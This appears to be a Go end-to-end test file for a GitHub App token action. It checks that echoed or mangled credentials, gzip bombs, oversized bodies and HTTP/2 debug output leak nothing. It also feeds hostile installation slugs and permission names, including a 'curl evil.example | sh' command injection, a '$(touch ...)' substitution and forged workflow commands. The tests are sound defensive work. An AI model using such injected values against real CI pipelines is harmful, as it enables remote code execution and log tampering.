package e2e_test

// A GitHub (or whatever answers in its place) that echoes credentials,
// whole or mangled, sends gigabytes, speaks HTTP/2 to a job with
// GODEBUG=http2debug set, or answers with strings that are not GitHub's.
// Every test runs the built binary as the runner does; the world's leak
// check looks for the key, every token issued and every App JWT any server
// here was sent.

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/app-token/app-token/internal/apptest"
	"github.com/app-token/app-token/internal/githubtest"
	"github.com/app-token/app-token/internal/runnertest"
)

// A server that echoes the Authorization header it was sent, in GitHub's
// JSON message or in plain text, on the App's calls and the token's, gets
// no credential into the log, an annotation, an output or the summary, and
// the annotation stays short.
func TestEchoedCredentialsStayHidden(t *testing.T) {
	t.Parallel()
	bodies := map[string]string{
		"json":  `{"message":"Bad credentials: ` + githubtest.AuthPlaceholder + `","documentation_url":"https://docs.github.com/rest"}`,
		"plain": "you sent " + githubtest.AuthPlaceholder + "\n::error::forged",
	}
	for _, c := range apptest.FaultCalls[:3] {
		for _, status := range []int{401, 403, 422, 500} {
			for kind, body := range bodies {
				for _, long := range []bool{false, true} {
					if long && c.Path != apptest.BotPath {
						continue
					}
					name := fmt.Sprintf("%s/%d/%s", c.Name, status, kind)
					if long {
						name += "/long token"
					}
					t.Run(name, func(t *testing.T) {
						w := apptest.NewWorld(t, func(cfg *githubtest.Config) { cfg.LongTokens = long }).With("retry-attempts", "1")
						// The bot lookup is the token check: its 401 for
						// the whole bound means a token GitHub refuses.
						refused := c.Path == apptest.CheckPath && status == 401
						if refused {
							w.With("token-ready-seconds", "1")
						}
						w.Emu.AddFault(githubtest.Fault{Method: c.Method, Path: c.Path, Times: -1, Status: status, Body: body})
						res := w.Main()
						if len(w.Emu.JWTs()) == 0 {
							t.Fatal("no App JWT reached the emulator")
						}
						shortLines(t, res)
						if refused {
							apptest.FailedWith(t, res, "kept refusing it (401 Bad credentials)", "The token was revoked at once")
						} else if c.Fatal {
							apptest.FailedWith(t, res, c.Failure, fmt.Sprint(status))
						} else {
							apptest.Succeeded(t, res)
							warned(t, res, c.Failure, fmt.Sprint(status))
						}
						apptest.CheckNoForgedCommands(t, res, w.Secrets, w.Emu.Tokens())
					})
				}
			}
		}
	}
}

// An "API" whose status line is the credential it was sent makes Go's
// error quote it; neither the error, nor the retry log line, nor the post
// phase's warning shows it.
func TestMalformedStatusLineKeepsTheCredential(t *testing.T) {
	t.Parallel()
	api, err := githubtest.StartMalformedAPI()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(api.Close)
	w := apptest.NewWorld(t).With("github-api-url", api.URL(), "retry-attempts", "2")
	w.Watch(api)
	res := w.Main()
	apptest.FailedWith(t, res, "find the App's installation on octo-org", "malformed HTTP status code")
	shortLines(t, res)
	if len(apptest.RetryLines(res, "GET", apptest.LookupPath)) != 1 || len(api.JWTs()) == 0 {
		t.Errorf("want one retry, with a JWT sent; log:\n%s", res.Log())
	}
	const token = "ghs_0123456789abcdefghijklmnopqrstuvwxyzAB"
	w.Secrets = append(w.Secrets, token)
	post := w.Post(map[string]string{"token": token, "expires-at": time.Now().Add(time.Hour).UTC().Format(time.RFC3339)})
	apptest.Succeeded(t, post)
	warned(t, post, "could not revoke the token", "malformed HTTP status code")
	shortLines(t, post)
}

// hugeMessage is a GitHub error whose message is 8 MiB long.
var hugeMessage = sync.OnceValue(func() string {
	return `{"message":"` + strings.Repeat("Bad credentials. ", 8<<20/17) + `"}`
})

// Answers past 1 MiB once decompressed (a gzip bomb, a gigabyte of text,
// an 8 MiB message), on a success or an error, fail the step within
// seconds with one short line that says so. BenchmarkHostileAnswers
// measures the memory the same answers take.
func TestOversizedAnswersAreRefused(t *testing.T) {
	t.Parallel()
	for _, tt := range hostileAnswers {
		t.Run(tt.name, func(t *testing.T) {
			w := apptest.NewWorld(t).With("retry-attempts", "1")
			w.Emu.AddFault(tt.fault())
			res := w.Main()
			apptest.FailedWith(t, res, tt.call.Failure, "GitHub's answer to "+tt.call.Method+" "+tt.call.Path+" is larger than 1 MiB once decompressed")
			shortLines(t, res)
			if res.Wall > 10*time.Second {
				t.Errorf("took %v", res.Wall)
			}
		})
	}
}

// hostileAnswers are the oversized answers, shared with the benchmark.
var hostileAnswers = []struct {
	name  string
	call  apptest.FaultCall
	fault func() githubtest.Fault
}{
	{"gzip bomb on a success", apptest.FaultCalls[0], func() githubtest.Fault {
		return githubtest.Fault{Method: "GET", Path: apptest.LookupPath, Status: 200, GzipBomb: true}
	}},
	{"gzip bomb on an error", apptest.FaultCalls[1], func() githubtest.Fault {
		return githubtest.Fault{Method: "POST", Path: apptest.MintPath, Status: 422, GzipBomb: true}
	}},
	{"1 GiB plain error body", apptest.FaultCalls[0], func() githubtest.Fault {
		return githubtest.Fault{Method: "GET", Path: apptest.LookupPath, Status: 502, Body: "<html>Bad gateway</html>\n", BodyBytes: 1 << 30}
	}},
	{"8 MiB JSON error message", apptest.FaultCalls[1], func() githubtest.Fault {
		return githubtest.Fault{Method: "POST", Path: apptest.MintPath, Status: 403, Body: hugeMessage()}
	}},
}

// GODEBUG=http2debug=2 in the job's environment makes Go's HTTP/2 code
// print every request header to stderr. Against a GitHub that offers h2,
// both phases speak HTTP/1.1, succeed, and stderr stays empty.
func TestHTTP2DebugPrintsNoCredentials(t *testing.T) {
	t.Parallel()
	w := apptest.NewWorld(t)
	var mu sync.Mutex
	protos := map[string]int{}
	gh := apptest.ServeTLSWith(t, w, func(srv *httptest.Server) {
		srv.EnableHTTP2 = true
		srv.Config.Handler = http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			mu.Lock()
			protos[r.Proto]++
			mu.Unlock()
			w.Emu.ServeHTTP(rw, r)
		})
	})
	// The server really offers HTTP/2: a client that takes it gets it.
	if resp, err := gh.Srv.Client().Get(gh.Srv.URL + "/app"); err != nil || resp.ProtoMajor != 2 {
		t.Fatalf("the emulator does not offer HTTP/2: %v", err)
	} else {
		resp.Body.Close()
	}
	w.With("github-api-url", gh.Srv.URL)
	w.Step.Env["SSL_CERT_FILE"] = gh.CertFile
	for _, v := range []string{"http2debug=2", "http2debug=1,http2client=1"} {
		t.Run(v, func(t *testing.T) {
			w.Step.Env["GODEBUG"] = v
			res := w.Main()
			apptest.Succeeded(t, res)
			post := w.Post(res.State)
			apptest.Succeeded(t, post)
			for _, r := range []*runnertest.Result{res, post} {
				if r.Stderr != "" {
					t.Errorf("stderr is not empty: %.500q", r.Stderr)
				}
			}
		})
	}
	mu.Lock()
	defer mu.Unlock()
	if protos["HTTP/2.0"] != 1 || protos["HTTP/1.1"] == 0 {
		t.Errorf("requests by protocol %v; want the action's all HTTP/1.1", protos)
	}
}

// mangles are what servers and proxies realistically do to a credential
// they echo: a line break or spaces put inside, JSON \u escapes (all, or
// the first character only), percent-encoding, base64.
var mangles = map[string]func(string) string{
	"line break in the header":    func(s string) string { return s[:40] + "\n" + s[40:] },
	"line break in the signature": func(s string) string { return s[:len(s)-40] + "\n" + s[len(s)-40:] },
	"CRLF and spaces": func(s string) string {
		return strings.Join([]string{s[:30], s[30:90], s[90:]}, "\r\n ")
	},
	"JSON \\u escapes": func(s string) string {
		var b strings.Builder
		for _, c := range s {
			fmt.Fprintf(&b, `\u%04x`, c)
		}
		return b.String()
	},
	"JSON \\u0065yJ": func(s string) string { return strings.Replace(s, "eyJ", `\u0065yJ`, 1) },
	"percent-encoded": func(s string) string {
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			fmt.Fprintf(&b, "%%%02X", s[i])
		}
		return b.String()
	},
	"base64": func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
}

// A server that echoes the App JWT mangled in its error message gets it
// hidden at both doors: nothing of it, plain or in the mangled form it was
// sent back in, reaches the log or stderr; the run fails with GitHub's
// message, the credential replaced by ***.
func TestMangledEchoesStayHidden(t *testing.T) {
	t.Parallel()
	for name, mangle := range mangles {
		for _, door := range []string{"action", "command line"} {
			t.Run(name+"/"+door, func(t *testing.T) {
				t.Parallel()
				w := apptest.NewWorld(t)
				w.Emu.AddFault(githubtest.Fault{Method: "POST", Path: "/app/installations/*", Times: -1, Status: http.StatusUnprocessableEntity,
					Body: `{"message":"Invalid request from {{authorization}} (echoed)"}`,
					Echo: func(auth string) string {
						quoted, _ := json.Marshal(mangle(auth))
						return strings.Trim(string(quoted), `"`)
					}})
				var shown string
				if door == "action" {
					res := w.Main() // with the leak check
					apptest.FailedWith(t, res, "Invalid request from")
					shown = res.Stdout + res.Stderr
				} else {
					code, stdout, stderr := w.CLI("", nil, "token", "--owner", "octo-org")
					if code != 1 || !strings.Contains(stderr, "Invalid request from") {
						t.Fatalf("exit %d, stderr %q; want exit 1 with GitHub's message", code, stderr)
					}
					shown = stdout + stderr
				}
				if !strings.Contains(shown, "***") {
					t.Errorf("nothing was hidden: %q", shown)
				}
				mangled := runnertest.NewSecrets()
				for _, jwt := range w.Emu.JWTs() {
					mangled.Add(runnertest.JWTSignature(jwt), mangle(runnertest.JWTSignature(jwt)))
					if name == "base64" { // base64 of the whole header value, at its own alignment
						mangled.Add(mangle("Bearer " + jwt)[len(mangle("Bearer "+jwt[:29])):])
					}
				}
				for _, line := range strings.Split(shown, "\n") {
					if strings.HasPrefix(line, "::add-mask::") {
						continue
					}
					if p := mangled.In(line); p != "" {
						t.Errorf("a piece of the App JWT, as echoed, reached the output (%q):\n%s", p, line)
					}
				}
			})
		}
	}
}

// hostileInstallation is an installation answer whose strings are not
// GitHub's: a slug carrying shell syntax and workflow commands.
func hostileInstallation(slug string) githubtest.Fault {
	body, _ := json.Marshal(map[string]any{
		"id": 1001, "app_id": githubtest.DefaultAppID, "app_slug": slug,
		"account":              map[string]any{"login": "octo-org", "type": "Organization"},
		"repository_selection": "selected",
		"permissions":          githubtest.DefaultConfig(nil).Installations[0].Permissions,
	})
	return githubtest.Fault{Method: "GET", Path: "/repos/octo-org/app/installation", Status: 200, Body: string(body)}
}

// Strings from GitHub reach outputs and the log only in GitHub's alphabets:
// a slug with a line break or shell syntax leaves the identity outputs
// empty, with a warning, and forges nothing.
func TestHostileSlugIsNotPassedOn(t *testing.T) {
	t.Parallel()
	for _, slug := range []string{
		"release-bot\n::stop-commands::INJECTED",
		"bot'; curl evil.example | sh; echo '",
		"$(touch /tmp/INJECTED)",
		"bot\r\n::add-mask::INJECTED",
	} {
		t.Run(slug, func(t *testing.T) {
			w := apptest.NewWorld(t)
			w.Emu.AddFault(hostileInstallation(slug))
			res := w.Main()
			apptest.Succeeded(t, res)
			apptest.CheckNoForgedCommands(t, res, w.Secrets, w.Emu.Tokens())
			for _, k := range []string{"app-slug", "git-user-name", "git-user-email", "bot-user-id"} {
				if res.Outputs[k] != "" {
					t.Errorf("output %s = %q", k, res.Outputs[k])
				}
			}
			if strings.Contains(res.Stdout+res.Summary, "INJECTED") {
				t.Errorf("the slug reached the log or summary")
			}
			if !slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, "slug that is not one") }) {
				t.Errorf("warnings = %q", res.Warnings)
			}
		})
	}
}

// Permission names and levels in the mint answer that are not GitHub's are
// not shown: the permissions output stays empty, with a warning, and no
// workflow command is forged.
func TestHostilePermissionNamesAreNotShown(t *testing.T) {
	t.Parallel()
	w := apptest.NewWorld(t).With("token-ready-seconds", "0") // a token GitHub never minted
	w.Emu.AddFault(mintAnswer(t, map[string]any{
		"permissions":          map[string]string{"contents\n::error::INJECTED": "write", "issues": "read\n::stop-commands::INJECTED"},
		"repository_selection": "selected",
		"repositories":         []map[string]string{{"name": "app", "full_name": "octo-org/app"}},
	}))
	res := w.Main()
	apptest.Succeeded(t, res)
	apptest.CheckNoForgedCommands(t, res, append(w.Secrets, "ghs_"+strings.Repeat("Q", 36)), nil)
	if res.Outputs["permissions"] != "" || strings.Contains(res.Stdout+res.Summary, "INJECTED") {
		t.Errorf("permissions output %q; log:\n%s", res.Outputs["permissions"], res.Log())
	}
	for k, v := range res.Outputs {
		if strings.ContainsAny(v, "\r\n") {
			t.Errorf("output %s spans lines: %q", k, v)
		}
	}
	if !slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, "permissions output is empty") }) {
		t.Errorf("warnings = %q", res.Warnings)
	}
}
